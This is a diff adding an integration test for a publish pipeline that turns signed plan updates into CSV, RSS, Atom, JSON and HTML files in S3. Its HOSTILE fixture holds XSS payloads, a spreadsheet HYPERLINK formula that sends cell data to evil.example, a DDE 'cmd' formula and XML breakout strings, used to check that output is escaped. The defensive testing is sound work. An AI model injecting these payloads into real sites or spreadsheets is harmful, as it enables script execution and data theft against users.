@@ -1,0 +1,271 @@
+/**
+ * The publish path end to end against DynamoDB Local and the S3 server: signed updates through
+ * the real API, the table's real stream records handed to the publish step, and every object in
+ * the bucket read back with independent parsers.
+ */
+import { DescribeStreamCommand, GetRecordsCommand, GetShardIteratorCommand, type _Record as StreamRecord } from '@aws-sdk/client-dynamodb-streams';
+import { HeadObjectCommand } from '@aws-sdk/client-s3';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { publishBatch, plansInBatch } from '#functions/publish/handler';
+import { defineCommitment, definePlan } from '#shared/definitions';
+import { DEMO_COMMITMENT, DEMO_PLAN, DEMO_PLAN_ID } from '#shared/demo-plan';
+import { publishPlan, publishSite, type PublishDependencies } from '#shared/publish';
+import { toEvent } from '../../infra/local/stream-poller.ts';
+import {
+  NS,
+  expandJsonLd,
+  expectSafeHtml,
+  ofType,
+  readAtom,
+  readCsvAgainstSchema,
+  readJsonFeed,
+  readRss,
+  values,
+  type SchemaField,
+} from '../support/feed-checks.ts';
+import { BASE_URL, createTestEnvironment, signedRequest, updatePath, type TestEnvironment, type TestKey } from '../support/environment.ts';
+
+// One instant for every write in this file, so "the same day" holds however long the run takes.
+const NOW = new Date();
+const PLAN = `plans/${DEMO_PLAN_ID}/`;
+const ECONOMY = DEMO_COMMITMENT.areaSlug!;
+const TERRITORY = 'territori-i-sostenibilitat';
+
+let env: TestEnvironment;
+let deps: PublishDependencies;
+let official: TestKey;
+const seen = new Set<string>();
+
+/** Every stream record written since the last call, in order, as Lambda would receive them. */
+async function newStreamRecords(): Promise<StreamRecord[]> {
+  const out = await env.streams.send(new DescribeStreamCommand({ StreamArn: env.streamArn }));
+  const records: StreamRecord[] = [];
+  for (const shard of out.StreamDescription?.Shards ?? []) {
+    let iterator = (
+      await env.streams.send(new GetShardIteratorCommand({ StreamArn: env.streamArn, ShardId: shard.ShardId!, ShardIteratorType: 'TRIM_HORIZON' }))
+    ).ShardIterator;
+    while (iterator) {
+      const page = await env.streams.send(new GetRecordsCommand({ ShardIterator: iterator }));
+      const fresh = (page.Records ?? []).filter((r) => !seen.has(r.dynamodb!.SequenceNumber!));
+      for (const r of fresh) seen.add(r.dynamodb!.SequenceNumber!);
+      records.push(...fresh);
+      if ((page.Records ?? []).length === 0) break;
+      iterator = page.NextShardIterator;
+    }
+  }
+  return records;
+}
+
+async function publishStream() {
+  const records = await newStreamRecords();
+  expect(records.length).toBeGreaterThan(0);
+  const event = toEvent(records, env.streamArn);
+  const outcome = await publishBatch(event, deps);
+  expect(outcome.failedSequences).toEqual([]);
+  return { outcome, event };
+}
+
+async function bucketContents(): Promise<Map<string, string>> {
+  const keys = await env.listObjects();
+  const bodies = await Promise.all(keys.map(async (key) => [key, (await env.getObject(key))!.body] as const));
+  return new Map(bodies);
+}
+
+async function post(commitmentId: string, body: Record<string, unknown>) {
+  const response = await env.api(signedRequest(official, 'POST', updatePath(DEMO_PLAN_ID, commitmentId), body));
+  expect(response.status, response.body).toBe(201);
+  return JSON.parse(response.body) as { updateId: string };
+}
+
+const HOSTILE = {
+  status: 'delayed',
+  observations: [
+    'Obres **endarrerides**, "cometes", comes, i emoji 🚧🎉',
+    '',
+    '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
+    '',
+    '=HYPERLINK("http://evil.example/?d="&A1,"Clica")',
+    '',
+    '- [trampa](javascript:alert(1))',
+    '- línia amb ]]> i </item> i <![CDATA[ x ]]>',
+  ].join('\n'),
+  links: [{ title: '=cmd|" /C calc"!A0, "cites"', url: 'https://example.org/a?x=1&y="2"' }],
+  progress: 35,
+};
+
+beforeAll(async () => {
+  env = await createTestEnvironment({ now: () => NOW });
+  deps = { repository: env.repository, store: env.store, baseUrl: BASE_URL };
+  await definePlan(env.repository, DEMO_PLAN_ID, DEMO_PLAN, { now: NOW });
+  await defineCommitment(env.repository, DEMO_PLAN_ID, 'c4', DEMO_COMMITMENT, { now: NOW });
+  await defineCommitment(env.repository, DEMO_PLAN_ID, 'c5', { ...DEMO_COMMITMENT, number: 5, title: 'Impulsarem el comerç de proximitat', status: 'pending', observations: '' }, { now: NOW });
+  await defineCommitment(
+    env.repository,
+    DEMO_PLAN_ID,
+    'c12',
+    { number: 12, title: 'Millorarem la mobilitat sostenible', priority: { number: 2, title: 'Una ciutat més sostenible' }, area: 'Territori i Sostenibilitat', status: 'pending' },
+    { now: NOW },
+  );
+  official = await env.addKey('official', 'official', [{ planId: DEMO_PLAN_ID }]);
+  // The first batch holds the plan's INSERT: everything is generated.
+  const { event } = await publishStream();
+  expect(plansInBatch(event).get(DEMO_PLAN_ID)!.full).toBe(true);
+});
+afterAll(() => env.destroy());
+
+describe('hostile text posted through the signed API', () => {
+  let updateId: string;
+  let bucket: Map<string, string>;
+
+  beforeAll(async () => {
+    updateId = (await post('c4', HOSTILE)).updateId;
+    await publishStream();
+    bucket = await bucketContents();
+  });
+
+  it('leaves every CSV valid against its datapackage.json schema, with formulas neutralised', () => {
+    const datapackage = JSON.parse(bucket.get(`${PLAN}datapackage.json`)!) as { resources: Array<{ path: string; schema?: { fields: SchemaField[] } }> };
+    const csvKeys = [...bucket.keys()].filter((k) => k.endsWith('.csv'));
+    expect(csvKeys.length).toBeGreaterThanOrEqual(3);
+    for (const key of csvKeys) {
+      const resource = datapackage.resources.find((r) => `${PLAN}${r.path}` === key);
+      expect(resource?.schema, `${key} is described in datapackage.json`).toBeDefined();
+      readCsvAgainstSchema(bucket.get(key)!, resource!.schema!);
+    }
+    const year = NOW.getUTCFullYear();
+    const history = readCsvAgainstSchema(bucket.get(`${PLAN}updates/${year}.csv`)!, datapackage.resources.find((r) => r.path === `updates/${year}.csv`)!.schema!).rows;
+    const row = history.find((r) => r.update_id === updateId)!;
+    expect(row.observations).toContain('Obres endarrerides, "cometes", comes, i emoji 🚧🎉');
+    expect(row.observations).toContain('\n=HYPERLINK(');
+    expect(row.links).toBe(`'=cmd|" /C calc"!A0, "cites" <https://example.org/a?x=1&y="2">`);
+    const links = readCsvAgainstSchema(bucket.get(`${PLAN}links.csv`)!, datapackage.resources.find((r) => r.path === 'links.csv')!.schema!).rows;
+    expect(links.find((l) => l.commitment_id === 'c4')!.title).toBe(`'=cmd|" /C calc"!A0, "cites"`);
+  });
+
+  it('leaves every RSS, Atom and JSON feed valid, with the update as a safe item', () => {
+    const feeds = [...bucket.keys()].filter((k) => /\/feed\.(rss|atom|json)$/.test(k));
+    // Plan + 2 areas + 3 commitments, three formats each.
+    expect(feeds).toHaveLength(18);
+    for (const key of feeds) {
+      const body = bucket.get(key)!;
+      const feed = key.endsWith('.rss') ? readRss(body) : key.endsWith('.atom') ? readAtom(body) : readJsonFeed(body);
+      const self = key.endsWith('.rss') ? (feed as ReturnType<typeof readRss>).self : key.endsWith('.atom') ? (feed as ReturnType<typeof readAtom>).self : (feed as ReturnType<typeof readJsonFeed>).feed.feed_url;
+      expect(self).toBe(`${BASE_URL}/${key}`);
+      for (const item of feed.items) expectSafeHtml(item.html);
+    }
+    const atom = readAtom(bucket.get(`${PLAN}commitments/c4/feed.atom`)!);
+    expect(atom.items[0]!.id).toBe(`urn:uuid:${updateId}`);
+    expect(atom.items[0]!.html).toContain('&lt;script&gt;alert(document.cookie)&lt;/script&gt;');
+    expect(atom.items[0]!.html).toContain('<strong>endarrerides</strong>');
+    expect(atom.items[0]!.html).toContain(']]&gt; i &lt;/item&gt; i &lt;![CDATA[ x ]]&gt;');
+    expect(atom.items[0]!.title).toContain('Completat o en execució dins les previsions → En execució però amb retard');
+    const rss = readRss(bucket.get(`${PLAN}areas/${ECONOMY}/feed.rss`)!);
+    expect(rss.items.map((i) => i.id)).toEqual([updateId]);
+    expect(readRss(bucket.get(`${PLAN}areas/${TERRITORY}/feed.rss`)!).items).toEqual([]);
+    const json = readJsonFeed(bucket.get(`${PLAN}feed.json`)!);
+    expect(json.items[0]!.id).toBe(updateId);
+    expect(json.feed.items[0].content_text).toContain('<script>alert(document.cookie)</script>');
+  });
+
+  it('serves every object with a charset and a Cache-Control', async () => {
+    for (const key of bucket.keys()) {
+      const head = await env.s3.send(new HeadObjectCommand({ Bucket: env.bucketName, Key: key }));
+      expect(head.ContentType, key).toMatch(/^[a-z]+\/[a-z0-9.+-]+;.*charset=utf-8/);
+      expect(head.CacheControl, key).toMatch(/max-age=\d+/);
+    }
+    const type = async (key: string) => (await env.s3.send(new HeadObjectCommand({ Bucket: env.bucketName, Key: key }))).ContentType;
+    expect(await type(`${PLAN}feed.atom`)).toBe('application/atom+xml; charset=utf-8');
+    expect(await type(`${PLAN}feed.json`)).toBe('application/feed+json; charset=utf-8');
+    expect(await type('catalog.jsonld')).toBe('application/ld+json; charset=utf-8');
+  });
+
+  it('keeps the HTML pages free of anything executable', () => {
+    for (const key of [...bucket.keys()].filter((k) => k.endsWith('.html'))) {
+      const html = bucket.get(key)!;
+      expect(html).not.toMatch(/<script/i);
+      for (const tag of html.match(/<[a-zA-Z][^>]*>/g)!) {
+        expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
+        expect(tag).not.toMatch(/href="\s*javascript:/i);
+      }
+    }
+    expect(bucket.get(`${PLAN}index.html`)).toContain('&lt;script&gt;alert(document.cookie)&lt;/script&gt;');
+  });
+
+  it('lists the plan in catalog.jsonld (DCAT-AP) with a distribution for every plan file in the bucket', async () => {
+    const graph = await expandJsonLd(bucket.get('catalog.jsonld')!);
+    const [dataset] = ofType(graph, `${NS.dcat}Dataset`);
+    expect(ofType(graph, `${NS.dcat}Dataset`)).toHaveLength(1);
+    expect(values(dataset!, `${NS.dct}modified`)[0]!['@value']).toBe(NOW.toISOString().slice(0, 10));
+    const downloads = values(dataset!, `${NS.dcat}distribution`).map((ref) => values(graph.find((n) => n['@id'] === ref['@id'])!, `${NS.dcat}downloadURL`)[0]!['@id'] as string);
+    const planFiles = [...bucket.keys()].filter((k) => k.startsWith(PLAN) && !k.includes('/areas/') && !k.includes('/commitments/'));
+    expect(downloads.sort()).toEqual(planFiles.map((k) => `${BASE_URL}/${k}`).sort());
+    expect(bucket.get('index.html')).toContain(`href="plans/${DEMO_PLAN_ID}/index.html"`);
+  });
+});
+
+describe('incremental publishing', () => {
+  it('after one update to one commitment, writes exactly the artifacts whose bytes changed and touches no other feed', async () => {
+    const before = await bucketContents();
+    await post('c12', { status: 'delayed', observations: 'Retard en la licitació.' });
+    const { outcome, event } = await publishStream();
+    const hint = plansInBatch(event).get(DEMO_PLAN_ID)!;
+    expect(hint).toMatchObject({ full: false, commitmentIds: new Set(['c12']), areaSlugs: new Set([TERRITORY]) });
+
+    const after = await bucketContents();
+    const changed = [...after.keys()].filter((key) => before.get(key) !== after.get(key)).sort();
+    const [plan] = outcome.plans;
+    const written = [...plan!.written, ...(outcome.site?.written ?? [])].sort();
+    expect(written).toEqual(changed);
+    // What a person would expect to change, and nothing of the other area or commitments.
+    for (const file of ['commitments.csv', 'commitments.json', 'feed.rss', 'feed.atom', 'feed.json', 'index.html', 'README.md']) {
+      expect(written).toContain(`${PLAN}${file}`);
+    }
+    for (const format of ['rss', 'atom', 'json']) {
+      expect(written).toContain(`${PLAN}commitments/c12/feed.${format}`);
+      expect(written).toContain(`${PLAN}areas/${TERRITORY}/feed.${format}`);
+    }
+    const rendered = [...plan!.written, ...plan!.skipped];
+    expect(rendered.filter((k) => k.includes(`/areas/${ECONOMY}/`) || k.includes('/commitments/c4/') || k.includes('/commitments/c5/'))).toEqual([]);
+    expect(written).not.toContain(`${PLAN}links.csv`);
+    expect(written).not.toContain(`${PLAN}datapackage.json`);
+    // Same year and day as before: the catalog record, the root catalog and the root index stay as they were.
+    expect(outcome.site?.rebuilt).toBe(false);
+    expect(written.filter((k) => !k.startsWith(PLAN))).toEqual([]);
+
+    // The partial publish left nothing stale: a full regeneration finds nothing to write.
+    const full = await publishPlan(DEMO_PLAN_ID, deps);
+    expect(full!.written).toEqual([]);
+    expect(full!.skipped.length).toBe(full!.artifacts);
+  });
+
+  it('re-renders the area a commitment left, from the old image in the stream', async () => {
+    await defineCommitment(env.repository, DEMO_PLAN_ID, 'c5', { ...DEMO_COMMITMENT, number: 5, title: 'Impulsarem el comerç de proximitat', area: 'Territori i Sostenibilitat', areaSlug: TERRITORY }, { now: NOW });
+    const { outcome, event } = await publishStream();
+    expect(plansInBatch(event).get(DEMO_PLAN_ID)!.areaSlugs).toEqual(new Set([ECONOMY, TERRITORY]));
+    const rendered = [...outcome.plans[0]!.written, ...outcome.plans[0]!.skipped];
+    for (const area of [ECONOMY, TERRITORY]) expect(rendered).toContain(`${PLAN}areas/${area}/feed.atom`);
+    expect(outcome.plans[0]!.written).toContain(`${PLAN}commitments.csv`);
+    expect((await publishPlan(DEMO_PLAN_ID, deps))!.written).toEqual([]);
+  });
+
+  it('regenerates everything, and the site root, when the plan itself changes', async () => {
+    await definePlan(env.repository, DEMO_PLAN_ID, { ...DEMO_PLAN, title: 'Pla de Mandat 2015-2019 (revisat)' }, { now: NOW });
+    const { outcome, event } = await publishStream();
+    expect(plansInBatch(event).get(DEMO_PLAN_ID)!.full).toBe(true);
+    const written = outcome.plans[0]!.written;
+    expect(written).toContain(`${PLAN}areas/${ECONOMY}/feed.atom`);
+    expect(written).toContain(`${PLAN}commitments/c4/feed.json`);
+    expect(outcome.site?.rebuilt).toBe(true);
+    expect(outcome.site?.written).toEqual(expect.arrayContaining(['catalog.jsonld', 'index.html']));
+    expect((await env.getObject('index.html'))!.body).toContain('Pla de Mandat 2015-2019 (revisat)');
+  });
+
+  it('rebuilds a stale or missing site root from the plan records alone, and then writes nothing', async () => {
+    await env.s3.send(new (await import('@aws-sdk/client-s3')).DeleteObjectCommand({ Bucket: env.bucketName, Key: 'catalog.jsonld' }));
+    await env.s3.send(new (await import('@aws-sdk/client-s3')).DeleteObjectCommand({ Bucket: env.bucketName, Key: 'catalog/built-from.txt' }));
+    const rebuilt = await publishSite(deps);
+    expect(rebuilt).toMatchObject({ rebuilt: true, plans: 1 });
+    expect(rebuilt.written).toContain('catalog.jsonld');
+    expect(await publishSite(deps)).toMatchObject({ rebuilt: false, written: [] });
+  });
+});
